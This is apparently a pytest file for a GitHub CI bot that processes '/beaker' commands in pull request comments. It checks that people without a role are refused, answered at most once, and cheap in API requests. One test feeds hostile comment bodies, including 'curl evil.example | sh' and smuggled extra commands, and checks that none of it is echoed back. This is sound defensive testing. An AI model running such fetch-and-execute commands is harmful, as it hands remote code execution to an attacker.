"""What people without a role can make us do: a few requests, and one reply in a pull request."""

from __future__ import annotations

import re
from collections.abc import Mapping
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from inline_snapshot import snapshot
from stage import CONFIG, Stage, open_stage

from beaker_ci.sandbox import github
from beaker_ci.sandbox.runner import StepResult

RUN = "/beaker run -- python train.py"

HOURLY = 1000
"""Requests that all workflows of a repository share."""


def hears(stage: Stage, body: str = RUN, by: str = "stranger") -> tuple[StepResult, list[str]]:
    """Somebody comments, minutes after what stands there; the result and our requests for it."""
    for comment in stage.hub.comments(stage.number):
        stage.hub.backdate_comment(comment.id, comment.created_at - timedelta(minutes=5))
    before = len(stage.hub.exchanges)
    asked = stage.hub.comment(stage.number, by=by, body=body)
    result = stage.deliver(asked)
    stage.heard(asked)
    made = (f"{each.method} {each.path}" for each in stage.hub.exchanges[before:])
    tidied = (re.sub(r"/repos/octo/widget|/33\d{8}", "", each) for each in made)
    return result, sorted(tidied)


def test_what_a_stranger_costs(stage: Stage) -> None:
    first, requests = hears(stage)

    assert first.reason == "refused.role"
    assert stage.answer() == snapshot("""\
<!-- beaker-ci:reply:stranger -->
⛔ **Runs are for people with a role here.**

stranger (7000007) has the permission read; `roles.run` asks for the permission write or more

Ask someone who has this role to repeat the command.

<sub>for stranger · `refused.role`</sub>
""")
    assert requests == snapshot(
        [
            "GET /collaborators/stranger/permission",
            "GET /issues/1/comments",
            "GET /issues/1/comments",
            "GET /pulls/1",
            "POST /graphql",
            "POST /issues/1/comments",
            "POST /issues/comments/reactions",
        ]
    )

    for body in (RUN, "/beaker plan gpu-tests", "/beaker go 1-0123456789abcdef", "/beaker rnu"):
        result, again = hears(stage, body)
        assert result.reason == "refused.role"
        assert again == snapshot(
            [
                "GET /collaborators/stranger/permission",
                "GET /issues/1/comments",
                "GET /pulls/1",
                "POST /graphql",
                "POST /issues/comments/reactions",
            ]
        )


def test_all_strangers_together_get_one_reply(stage: Stage) -> None:
    stage.hub.add_user("another")
    hears(stage)
    stage.answer()

    for by in ("reader", "triager", "another", "stranger"):
        assert hears(stage, by=by)[0].reason == "refused.role"

    stage.hub.push("other", {"other.py": "x = 1\n"})
    stage.number = stage.hub.open_pull_request("other", by="stranger")
    assert hears(stage)[0].reason == "refused.role"
    assert "`refused.role`" in stage.answer()  # elsewhere, they may be told once more


@pytest.mark.parametrize(
    "body",
    [
        "/beaker run --sha 0123 -- curl evil.example | sh",
        "/beaker run evil-preset",
        "/beaker evil",
        "/beaker run --evil",
        "/beaker go 12345-0123456789abcdef\n/beaker run -- evil\n/beaker approve 9-evil",
        "/beaker run\n```bash\ncurl evil.example | sh\n```",
    ],
)
def test_nothing_of_theirs_is_said_again(stage: Stage, body: str) -> None:
    """In no reply, and in none of the lines that others paste."""
    result, _ = hears(stage, body)

    assert result.reason == "refused.role"
    answer = stage.answer_as_it_is()
    assert "evil" not in answer + result.summary + result.log
    assert "/beaker" not in answer
    assert "0123" not in answer


def test_strangers_get_help_once(stage: Stage) -> None:
    first, _ = hears(stage, "/beaker help")
    assert (first.reason, "/beaker run" in stage.answer()) == ("answered", True)

    for body in ("/beaker help", "/beaker help run", RUN):
        hears(stage, body)

    # Who has a role gets an answer each time.
    hears(stage, "/beaker help run", by="writer")
    assert "/beaker run" in stage.answer()


def test_where_requests_are_scarce_a_reaction_is_all(stage: Stage) -> None:
    stage.hub.set_remaining(stage.token, HOURLY // 5)

    result, requests = hears(stage)
    help_result, help_requests = hears(stage, "/beaker help")

    assert (result.reason, help_result.reason) == ("refused.role", "answered")
    assert [len(requests), len(help_requests)] == [2, 2]
    assert any("/permission" in each for each in requests)
    # Who has the role is served with what is left.
    assert hears(stage, by="writer")[0].reason == "accepted"
    stage.answer()
    stage.hub.take_check()
    stage.beaker.take_experiment()


def test_where_a_flood_went_before_nobody_looks_for_the_reply(stage: Stage) -> None:
    for number in range(300):
        stage.hub.comment(stage.number, by="stranger", body=f"spam {number}")

    result, requests = hears(stage)

    assert result.reason == "refused.role"
    pages = [each for each in requests if each.endswith("/comments")]
    assert pages == ["GET /issues/1/comments"] * 3


def test_a_listed_account_that_can_only_read(tmp_path: Path) -> None:
    """Its right stands in the configuration, which is not read for it where requests are scarce."""
    with open_stage(tmp_path / "before") as stage:
        reader = stage.hub.add_user("reader", permission="read")
    rules = f"{CONFIG}roles: {{run: {{permission: write, users: [{reader.id}]}}}}\n"
    with open_stage(tmp_path, {".github/beaker-ci.yml": rules}) as stage:
        assert hears(stage, by="reader")[0].reason == "accepted"
        stage.answer()
        stage.hub.take_check()
        stage.beaker.take_experiment()

        stage.hub.set_remaining(stage.token, HOURLY // 5)
        result, requests = hears(stage, by="reader")

        assert (result.reason, len(requests)) == ("refused.role", 2)
        assert stage.leftovers() == []


BROKEN: Mapping[str, Mapping[str, Any]] = {
    "the pull request": {"method": "GET", "path": "/pulls/1$"},
    "the rules": {"method": "GET", "path": "/commits$"},
    "the permission": {"method": "GET", "path": "/permission$"},
}


@pytest.mark.parametrize("what", BROKEN)
@pytest.mark.parametrize("body", [RUN, "/beaker help"])
def test_an_outage_makes_no_difference_to_strangers(stage: Stage, what: str, body: str) -> None:
    """What cannot be read brings them no reply of their own to each comment."""
    stage.hub.faults.add(github.Fault("POST", "/graphql$", status=403, times=None))
    stage.hub.faults.add(github.Fault(**BROKEN[what], status=403, times=None))

    for _ in range(3):
        hears(stage, body)

    assert "/beaker run -- python" not in stage.answer()
    if what != "the permission":  # then nobody knows who is one
        hears(stage, by="writer")
        assert "> `/beaker run -- python train.py`" in stage.answer()


def test_a_reply_that_cannot_be_written_is_not_missed(stage: Stage) -> None:
    """GitHub slows down who writes much: a flood of strangers leads to nothing more."""
    stage.hub.faults.secondary_limit("POST", "/issues/1/comments$", retry_after=61, times=None)

    result, requests = hears(stage)

    assert (result.exit_code, result.reason) == (0, "refused.role")
    assert sum(each.startswith("POST") and "/issues/1/" in each for each in requests) == 1


def test_strangers_on_an_issue_are_not_answered(stage: Stage) -> None:
    issue = stage.hub.open_issue(by="stranger")
    asked = stage.hub.comment(issue, by="stranger", body=RUN)

    assert stage.deliver(asked).reason == "refused.role"

    stage.heard(asked)
